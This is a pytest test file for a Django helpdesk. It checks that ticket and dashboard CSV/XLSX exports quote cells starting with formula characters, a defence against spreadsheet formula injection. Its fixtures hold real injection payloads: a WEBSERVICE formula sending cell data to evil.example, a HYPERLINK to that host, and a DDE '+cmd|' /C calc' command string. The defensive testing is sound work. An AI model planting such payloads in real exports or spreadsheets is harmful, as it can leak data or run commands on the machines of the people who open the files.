"""Issue 12.1: no export cell is ever a formula (OWASP "CSV injection"), whichever way the text came in."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.test import Client

from helpdesk.metrics.cells import safe_cell
from helpdesk.models import User
from tests.api.conftest import token_client

pytestmark = pytest.mark.django_db

MAIL_SUBJECT = '=WEBSERVICE("http://evil.example/?"&A1) 개인정보 삭제 요청'
API_SUBJECT = '=HYPERLINK("http://evil.example/","열람")'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _mail(subject: str) -> bytes:
    return (
        "From: Attacker <attacker@example.com>\r\nTo: micube@micube.co.kr\r\n"
        f"Subject: {subject}\r\nMessage-ID: <inject-1@example.com>\r\nDate: Mon, 02 Mar 2026 10:00:00 +0900\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n제 정보를 삭제해 주세요.\r\n"
    ).encode()


@pytest.fixture
def poisoned(ingest: Callable[..., list[dict[str, Any]]], admin_user: User, manager: User) -> None:
    [line] = ingest(_mail(MAIL_SUBJECT))
    assert line["outcome"] == "new_ticket"
    created = token_client(admin_user).post("/api/v1/tickets/", {
        "requester_email": "caller@example.com", "requester_name": "+cmd|' /C calc'!A0",
        "subject": API_SUBJECT, "body_text": "전화로 받은 요청", "request_type": "access"}, format="json")
    assert created.status_code == 201, created.content


def _cells_from_xlsx(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_safe(content: bytes, *expected_texts: str) -> None:
    assert content[:2] == b"PK"
    cells = _cells_from_xlsx(content)
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(DANGEROUS_STARTS), cell.value
    for text in expected_texts:
        assert "'" + text in texts  # kept readable, just made inert


def _assert_csv_safe(content: bytes, *expected_texts: str) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
    for text in expected_texts:
        assert "'" + text in cells


PERIOD = ""  # the default period: the last 30 days, which hold both tickets


def test_api_ticket_export_is_inert(poisoned: None, manager: User) -> None:
    client = token_client(manager)
    xlsx = client.get(f"/api/v1/exports/tickets/?{PERIOD}&file_format=xlsx&include_emails=1")
    assert xlsx.status_code == 200, xlsx.content
    _assert_xlsx_safe(xlsx.content, MAIL_SUBJECT, API_SUBJECT, "+cmd|' /C calc'!A0")
    csv_response = client.get(f"/api/v1/exports/tickets/?{PERIOD}&file_format=csv&include_emails=1")
    _assert_csv_safe(csv_response.content, MAIL_SUBJECT, API_SUBJECT, "+cmd|' /C calc'!A0")


def test_dashboard_exports_are_inert(poisoned: None, manager: User, client: Client) -> None:
    client.force_login(manager)
    xlsx = client.get(f"/desk/dashboard/export/tickets/?{PERIOD}&file_format=xlsx")
    assert xlsx.status_code == 200
    _assert_xlsx_safe(xlsx.content, MAIL_SUBJECT, API_SUBJECT)
    _assert_csv_safe(client.get(f"/desk/dashboard/export/tickets/?{PERIOD}").content, MAIL_SUBJECT, API_SUBJECT)
    # The figures export carries assignee names and dates only, but goes through the same writer.
    figures = client.get(f"/desk/dashboard/export/figures/?{PERIOD}&file_format=xlsx")
    assert figures.status_code == 200
    _assert_xlsx_safe(figures.content)


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_every_dangerous_start_is_quoted(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_harmless_values_are_unchanged() -> None:
    assert safe_cell("PRIV-2026-0001") == "PRIV-2026-0001"
    assert safe_cell("개인정보 = 삭제") == "개인정보 = 삭제"
    assert safe_cell(-1.5) == -1.5 and safe_cell(None) is None and safe_cell(True) is True
